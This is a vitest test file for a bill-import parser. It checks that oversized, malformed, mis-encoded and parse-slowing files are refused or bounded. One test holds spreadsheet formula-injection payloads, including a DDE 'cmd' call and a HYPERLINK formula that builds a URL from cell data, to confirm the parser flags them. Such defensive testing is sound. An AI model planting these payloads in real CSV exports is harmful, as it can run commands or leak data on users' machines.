import { closeSync, ftruncateSync, mkdirSync, mkdtempSync, openSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { BillMapping } from '#shared/reconcile/mapping.ts';
import type { BillLimits } from '../../electron/reconciliation/limits.ts';
import { readBill, recognizeBill } from '../../electron/reconciliation/read-bill.ts';
import { portalMapping } from './portal.ts';
import { readWhole, utf8 } from './read.ts';
import { alipay, payment, swiftpass, wechat } from './writers.ts';

const folder = mkdtempSync(path.join(tmpdir(), 'shroff-hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));

const one = [{ row: payment(), product: '茶' }];
const head = 'Order,Amount,Type,When,Fee,Note\n';
const line = 'SF1,12.50,Sale,2026-11-20 12:00:00,0.10,tea\n';
const bytes = (...values: (string | number[])[]) =>
  Buffer.concat(values.map((value) => (typeof value === 'string' ? Buffer.from(value) : Buffer.from(value))));

function sparse(name: string, size: number, start: string): void {
  const file = openSync(path.join(folder, name), 'w');
  writeSync(file, start);
  ftruncateSync(file, size);
  closeSync(file);
}

beforeAll(() => {
  sparse('ten-gigabytes.csv', 10 * 2 ** 30, swiftpass.write(one));
  sparse('ten-gigabytes.xlsx', 10 * 2 ** 30, 'PK\u0003\u0004');
  sparse('sparse.csv', 2 ** 20, swiftpass.write(one));
  sparse('sparse.xlsx', 2 ** 20, 'PK\u0003\u0004');
  mkdirSync(path.join(folder, 'folder.csv'));
  writeFileSync(path.join(folder, 'empty.csv'), '');
});

test.each([
  ['ten-gigabytes.csv', { code: 'tooLarge', found: String(2 * 2 ** 30) }],
  ['ten-gigabytes.xlsx', { code: 'tooLarge', found: String(2 * 2 ** 30) }],
  ['sparse.csv', { code: 'notText', line: 5 }],
  ['sparse.xlsx', { code: 'damagedWorkbook' }],
  ['folder.csv', { code: 'notAFile' }],
  ['empty.csv', { code: 'empty' }],
  ['nowhere.csv', { code: 'missing' }],
])('%s', async (name, refusal) => {
  const file = path.join(folder, name);
  expect((await readWhole(file)).refusal).toMatchObject(refusal);
  expect(await recognizeBill(file)).toMatchObject({ kind: 'refused', refusal });
});

test('a device is no file', async () => {
  expect((await readWhole('/dev/zero')).refusal).toMatchObject({ code: 'notAFile' });
});

test.each<[string, Uint8Array, object]>([
  ['nothing but newlines', utf8('\n\r\n\n'), { code: 'unknownLayout' }],
  [
    'UTF-16',
    bytes([0xff, 0xfe], iconv.encode('交易时间', 'utf16le').toString('latin1')),
    { code: 'encoding', found: 'UTF-16' },
  ],
  [
    'bytes of no encoding',
    bytes(wechat.write(one).slice(0, 200), [0xff, 0xff, 0x0a], '中\n'),
    { code: 'encoding', line: 2 },
  ],
  [
    'a mark of UTF-8 before another encoding',
    bytes([0xef, 0xbb, 0xbf], [...iconv.encode(wechat.write(one), 'gbk')]),
    { code: 'encoding', line: 1, found: 'UTF-8' },
  ],
  [
    'Big5',
    iconv.encode('時間,訂單號,金額 港幣\n2026,臺灣,龜\n', 'big5'),
    { code: expect.stringMatching(/^(encoding|unknownLayout)$/) },
  ],
  [
    'Latin-1',
    bytes('Bestellung,Gr', [0xf6, 0xdf], 'e\n'),
    { code: expect.stringMatching(/^(encoding|unknownLayout)$/) },
  ],
  ['a page to log in on', utf8('<!DOCTYPE html><html><body>登录</body></html>'), { code: 'unknownLayout', line: 1 }],
  ['a failure in XML', utf8('<xml><return_code>FAIL</return_code></xml>'), { code: 'unknownLayout' }],
  ['a packed bill', bytes([0x1f, 0x8b, 8, 0]), { code: 'packed' }],
  ['an old workbook', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), { code: 'oldWorkbook' }],
  ['a PDF', bytes('%PDF-1.7\n'), { code: 'notText', found: 'PDF' }],
  ['the first bytes of a packed file', bytes('PK', [3, 4]), { code: 'damagedWorkbook' }],
  ['headings and no more', utf8(`${swiftpass.write([]).split('\n')[0]}\n`), { code: 'cut' }],
  ['a NUL in the last line', bytes(wechat.write(one), [0]), { code: 'notText', line: 5 }],
  ['the title alone', utf8('#支付宝业务明细查询\n'), { code: 'cut' }],
  ['a comment of somebody else', utf8('#其他\n1,2\n'), { code: 'unknownLayout' }],
])('%s', async (_what, hostile, refusal) => {
  const bill = await readWhole(hostile);
  expect(bill.refusal).toMatchObject(refusal);
  expect(bill.rows).toEqual([]);
});

test.each<[string, string, Partial<BillLimits>, object]>([
  ['one line without an end', `${head}${'x'.repeat(5000)}`, { lineChars: 4000 }, { code: 'lineTooLong', line: 2 }],
  [
    'a quote that is never closed',
    `${head}"${line.repeat(200)}`,
    { lineChars: 4000 },
    { code: 'lineTooLong', line: 2 },
  ],
  ['a quote left open at the end', `${head}${line}"SF2,1`, {}, { code: 'quote', line: 3, column: 1 }],
  ['more rows than the most', head + line.repeat(20), { rows: 10 }, { code: 'tooManyRows', line: 11 }],
  ['more columns than the most', `${head}${','.repeat(20_000)}\n`, {}, { code: 'tooManyColumns', line: 2 }],
  ['no such headings', 'a,b\n1,2\n', {}, { code: 'columnMissing', line: 1 }],
  ['two rows of headings', head + line + head + line, {}, { code: 'secondHeader', line: 3 }],
  ['a heading that stands twice', `Amount,${head}${line}`, {}, { code: 'columnTwice', line: 1, column: 2 }],
  ['a bill after a bill', `\ufeff${head}${line}\ufeff${head}${line}`, {}, { code: 'secondHeader', line: 3 }],
  [
    'a quote that takes the next line into itself',
    `${head}SF1,12.50,Sale,,,"tea\nSF2,"99.00",Sale,,,\n`,
    {},
    { code: 'quote', line: 2, column: 6 },
  ],
  ['delimiters without an end', `${head}${','.repeat(3 * 2 ** 20)}`, {}, { code: 'lineTooLong', line: 2 }],
])('%s', async (_what, text, limits, refusal) => {
  const bill = await readWhole(utf8(text), { layout: portalMapping, limits });
  expect(bill.refusal).toMatchObject(refusal);
});

test.each([
  ['=HYPERLINK("http://x"&A1)', 1, 'formula'],
  ['+1+cmd|x!A0', 1, 'formula'],
  ['@SUM(1+1)', 1, 'formula'],
  ['-2+3+cmd|x', 1, 'formula'],
  ['=1250/100', 2, 'amount'],
  ['12.50\t=1', 2, 'amount'],
])('a formula is never run nor taken for what it shows: %s in column %i', async (cell, column, code) => {
  const cells = line
    .trim()
    .split(',')
    .with(column - 1, `"${cell.replaceAll('"', '""')}"`);
  const bill = await readWhole(utf8(`${head}${cells.join()}\n`), { layout: portalMapping });
  expect(bill).toMatchObject({ rows: [], end: { problems: [{ code, line: 2, column }] } });
});

test('thousands of columns are read where they are pointed at', async () => {
  const many = (cells: string) => `${cells.trimEnd()}${',x'.repeat(9000)}\n`;
  const bill = await readWhole(utf8(many(head) + many(line)), { layout: portalMapping });
  expect(bill).toMatchObject({ rows: [{ line: 2, row: { reference: 'SF1' } }], end: { problems: [] } });
});

test('of very many problems the first are kept, and all are counted', async () => {
  const bill = await readWhole(utf8(head + 'x,y,z\n'.repeat(3000)), { layout: portalMapping });
  expect(bill.end).toMatchObject({ problemCount: 3000, problems: { length: 1000 } });
});

test('a line that is lost is counted and named, however many rows have a small fault', async () => {
  const noted = 'SF1,12.50,Sale,2026-11-20 12:00:00,free,tea\n'.repeat(1500);
  const { end } = await readWhole(utf8(`${head}${noted}x,y,z\n`), { layout: portalMapping });
  expect(end).toMatchObject({ problemCount: 1501, unreadable: 1, problems: { length: 1001 } });
  expect(end?.problems.at(-1)).toMatchObject({ line: 1502, rowKept: false });
});

test('what is shown of a cell is short and holds nothing that would run or hide', async () => {
  const text = `${head}SF1,${'9'.repeat(500)}\u202e\u0007,Sale,,,\n`;
  const found = (await readWhole(utf8(text), { layout: portalMapping })).end?.problems[0]?.found ?? '';
  expect(found).toHaveLength(80);
  expect(found).not.toMatch(/[\p{Cc}\p{Cf}]/u);
});

test.each<[string, Uint8Array, BillMapping | 'recognize']>([
  ['commas', utf8(swiftpass.write(one).replace('茶', ','.repeat(1_000_000))), 'recognize'],
  ['blanks in an amount', utf8(`${head}SF1,1${' '.repeat(900_000)}2,Sale,,,\n`), portalMapping],
  ['quotes', utf8(`${head}SF1,1,Sale,,,"${'""'.repeat(400_000)}"\n`), portalMapping],
  ['lines in a cell', utf8(`${head}SF1,1.00,Sale,,,"${'\n'.repeat(400_000)}"\n`), portalMapping],
  ['back-ticks', utf8(swiftpass.write(one).replace('茶', ',`'.repeat(300_000))), 'recognize'],
])('a long run of %s takes no longer than its length', async (_what, hostile, layout) => {
  const startMs = performance.now();
  const bill = await readWhole(hostile, { layout });
  expect(bill.refusal ?? bill.end).not.toBeNull();
  expect(performance.now() - startMs).toBeLessThan(5000);
});

test('it can be called off, and tells how far it is', async () => {
  const rows = Array.from({ length: 3000 }, (_one, n) => ({ row: payment({ reference: `SF${n}` }) }));
  const file = path.join(folder, 'long.csv');
  writeFileSync(file, swiftpass.write(rows));
  const stop = new AbortController();
  const heard: number[] = [];
  const question = { layout: 'recognize', currency: 'CNY', day: null } as const;
  const onProgress = ({
    readBytes,
    totalBytes,
    rows: count,
  }: {
    readBytes: number;
    totalBytes: number;
    rows: number;
  }) => {
    heard.push(readBytes / totalBytes);
    if (count > 0) stop.abort(new Error('enough'));
  };
  await expect(async () => {
    for await (const part of readBill(file, { ...question, onProgress, signal: stop.signal }))
      expect(part.kind).toBe('rows');
  }).rejects.toThrow('enough');
  expect(heard[0]).toBeGreaterThan(0);
  expect(heard.at(-1)).toBeLessThan(1);
  const stopped = readBill(file, { ...question, signal: AbortSignal.abort(new Error('never began')) });
  await expect(stopped.next()).rejects.toThrow('never began');
});

test('a bill is recognized by its headings, and shown for pointing where it is not', async () => {
  for (const layout of [swiftpass, wechat, alipay])
    expect(await recognizeBill(iconv.encode(layout.write(one), 'gb18030'))).toMatchObject({
      format: layout.format,
      encoding: 'gb18030',
    });
  expect(await recognizeBill(utf8(`${head}${line}`.replaceAll(',', ';')), { lines: 1 })).toMatchObject({
    ...{ kind: 'glance', format: null, encoding: 'utf-8', delimiter: ';', sheets: [] },
    records: [{ line: 1, cells: head.trim().split(',') }],
  });
});
